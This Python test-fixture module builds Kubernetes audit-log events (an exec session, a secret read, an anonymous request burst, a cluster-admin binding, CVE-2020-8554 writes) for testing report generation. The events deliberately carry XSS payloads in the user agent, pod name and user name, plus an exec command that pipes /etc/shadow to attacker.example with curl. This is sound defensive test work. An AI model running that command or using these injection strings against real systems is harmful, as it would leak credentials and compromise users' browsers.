"""Realistic audit lines for the report tests: the real corpus, the demo generator, and the events a report
is for (an exec by a person with a full command, a secret read, a burst of failed requests from a public
address, a cluster-admin binding, CVE-2020-8554 writes), some carrying hostile strings where an attacker can
put them (user agent, names, command, user name, namespace).

The suspicious events are the real corpus events (falco's exec and cluster-role-binding captures) with the
fields changed, so their shape is what kube-apiserver writes.
"""

from __future__ import annotations

import copy
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import quote

import msgspec

from kube_audit_shipper.demo.events import AuditEventGenerator
from tests.support.corpus import corpus_lines

START = datetime(2026, 11, 22, 10, 0, 0, tzinfo=UTC)
XSS_UA = '<script>alert("ua")</script>'
XSS_POD = '"><img src=x onerror=alert(1)>'
XSS_USER = "'><iframe src=//attacker.example/x></iframe>"
XSS_COMMAND = ("sh", "-c", "</td><svg onload=alert(3)> && curl http://attacker.example/$(cat /etc/shadow)")
ATTACKER_IP = "185.220.101.23"
PUBLIC_FAILED = 14  # failed requests of ATTACKER_IP (403) ...
PUBLIC_OK = 6  # ... and successful ones: 20 requests, 70 % failed


def _stamp(t: datetime) -> str:
    return t.strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def _template(predicate: Any) -> dict[str, Any]:
    for line in corpus_lines():
        event = msgspec.json.decode(line)
        if predicate(event):
            return dict(event)
    raise AssertionError("no corpus event fits")


def _exec_template(e: dict[str, Any]) -> bool:
    return e.get("stage") == "ResponseStarted" and (e.get("objectRef") or {}).get("subresource") == "exec" and "command=" in e.get("requestURI", "")


def _crb_template(e: dict[str, Any]) -> bool:
    ref = e.get("objectRef") or {}
    return e.get("stage") == "ResponseComplete" and ref.get("resource") == "clusterrolebindings" and e.get("verb") == "create" and "requestObject" in e


def _timed(event: dict[str, Any], t: datetime, audit_id: str) -> dict[str, Any]:
    event = copy.deepcopy(event)
    event["auditID"] = audit_id
    event["requestReceivedTimestamp"] = _stamp(t)
    event["stageTimestamp"] = _stamp(t + timedelta(milliseconds=3))
    event.pop("timestamp", None)
    event.get("metadata", {}).pop("creationTimestamp", None)
    return event


def suspicious_events(start: datetime = START) -> list[dict[str, Any]]:
    """The events every report must show, hostile strings included, one second apart from `start`."""
    exec_base = _template(_exec_template)
    crb_base = _template(_crb_template)
    t = start
    out: list[dict[str, Any]] = []

    def step() -> datetime:
        nonlocal t
        t += timedelta(seconds=1)
        return t

    # exec by a person (a shared admin acting for alice), both stages recorded: one session
    command = "&".join("command=" + quote(part, safe="") for part in XSS_COMMAND)
    for stage, code in (("ResponseStarted", 101), ("ResponseComplete", 101)):
        e = _timed(exec_base, step(), "exec-0001")
        e["stage"] = stage
        e["requestURI"] = f"/api/v1/namespaces/shop/pods/{quote(XSS_POD, safe='')}/exec?{command}&container=app&stdin=true&tty=true"
        e["objectRef"] = {"resource": "pods", "namespace": "shop", "name": XSS_POD, "apiVersion": "v1", "subresource": "exec"}
        e["user"] = {"username": "kubernetes-admin", "groups": ["system:masters", "system:authenticated"]}
        e["annotations"] = {
            "authorization.k8s.io/decision": "allow",
            "authorization.k8s.io/reason": 'RBAC: allowed by ClusterRoleBinding "alice-admin" of ClusterRole "cluster-admin" to User "alice"',
        }
        e["sourceIPs"] = ["81.2.69.160"]
        e["userAgent"] = XSS_UA
        e["responseStatus"] = {"metadata": {}, "code": code}
        out.append(e)
    # a secret read by a person with a hostile name
    e = _timed(exec_base, step(), "secret-0001")
    e.update(
        stage="ResponseComplete",
        verb="get",
        requestURI="/api/v1/namespaces/shop/secrets/db-password",
        objectRef={"resource": "secrets", "namespace": "shop", "name": "db-password", "apiVersion": "v1"},
        user={"username": XSS_USER, "groups": ["system:authenticated"]},
        sourceIPs=["10.0.0.8"],
        userAgent="kubectl/v1.31.0 (linux/amd64) kubernetes/9edcffc",
        responseStatus={"metadata": {}, "code": 200},
    )
    e.pop("annotations", None)
    out.append(e)
    # a burst of failed requests from a public address (anonymous listing of secrets, then nodes)
    for i in range(PUBLIC_FAILED + PUBLIC_OK):
        e = _timed(exec_base, step(), f"burst-{i:04d}")
        ok = i >= PUBLIC_FAILED
        e.update(
            stage="ResponseComplete",
            verb="list",
            requestURI="/api/v1/secrets" if not ok else "/api/v1/nodes",
            objectRef={"resource": "secrets" if not ok else "nodes", "apiVersion": "v1"},
            user={"username": "system:anonymous", "groups": ["system:unauthenticated"]},
            sourceIPs=[ATTACKER_IP],
            userAgent="python-requests/2.32.3",
            responseStatus={"metadata": {}, "code": 200 if ok else 403},
        )
        e.pop("annotations", None)
        out.append(e)
    # a cluster-admin binding
    e = _timed(crb_base, step(), "crb-0001")
    e["user"] = {"username": "mallory@example.com", "groups": ["system:authenticated"]}
    e["sourceIPs"] = ["81.2.69.161"]
    e["objectRef"] = {"resource": "clusterrolebindings", "name": "mallory-admin", "apiGroup": "rbac.authorization.k8s.io", "apiVersion": "v1"}
    e["requestObject"] = {
        "kind": "ClusterRoleBinding",
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "metadata": {"name": "mallory-admin"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
        "subjects": [{"kind": "User", "name": "mallory@example.com", "apiGroup": "rbac.authorization.k8s.io"}],
    }
    e["responseStatus"] = {"metadata": {}, "code": 201}
    out.append(e)
    # CVE-2020-8554: a Service given an external IP, and a person writing services/status
    for sub, body in (
        ("", {"kind": "Service", "apiVersion": "v1", "metadata": {"name": "mitm"}, "spec": {"ports": [{"port": 443}], "externalIPs": ["8.8.8.8"]}}),
        ("status", {"status": {"loadBalancer": {"ingress": [{"ip": "1.1.1.1"}]}}}),
    ):
        e = _timed(crb_base, step(), f"cve-{sub or 'spec'}")
        e.update(
            verb="create" if not sub else "patch",
            requestURI="/api/v1/namespaces/shop/services" + ("/mitm/status" if sub else ""),
            objectRef={"resource": "services", "namespace": "shop", "name": "mitm", "apiVersion": "v1", **({"subresource": sub} if sub else {})},
            user={"username": "mallory@example.com", "groups": ["system:authenticated"]},
            requestObject=body,
            responseStatus={"metadata": {}, "code": 201 if not sub else 200},
        )
        out.append(e)
    # a deletion in a namespace with control characters in its name
    e = _timed(crb_base, step(), "delete-0001")
    e.update(
        verb="delete",
        requestURI="/apis/apps/v1/namespaces/shop/deployments/checkout",
        objectRef={"resource": "deployments", "namespace": "shop\u202e\u0007", "name": "checkout", "apiGroup": "apps", "apiVersion": "v1"},
        user={"username": "mallory@example.com", "groups": ["system:authenticated"]},
        responseStatus={"metadata": {}, "code": 200},
    )
    e.pop("requestObject", None)
    out.append(e)
    return out


def suspicious_lines(start: datetime = START) -> list[bytes]:
    return [msgspec.json.encode(e) for e in suspicious_events(start)]


BAD_LINES = [
    b"not json at all",
    b'{"kind": 0}',
    b"[1, 2, 3]",
    b'{"kind": "EventList", "items": []}',
    b'{"verb": "get", "user": "alice"}',
    b'{"verb": "get", "requestObject": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    b'{"verb": "get", "userAgent": "\\ud800 lone surrogate"}',
]
"""Lines a report must count and skip, with the reason each is counted under (a lone surrogate escape is not
valid JSON to msgspec, so no such string reaches the page)."""
BAD_REASONS = ["invalid-json", "odd-types", "not-an-event", "not-an-event", "odd-types", "too-deep", "invalid-json"]


def demo_lines(n: int, seed: int = 7, start: datetime = START) -> list[bytes]:
    return list(AuditEventGenerator(seed, start_time=start).lines(n))
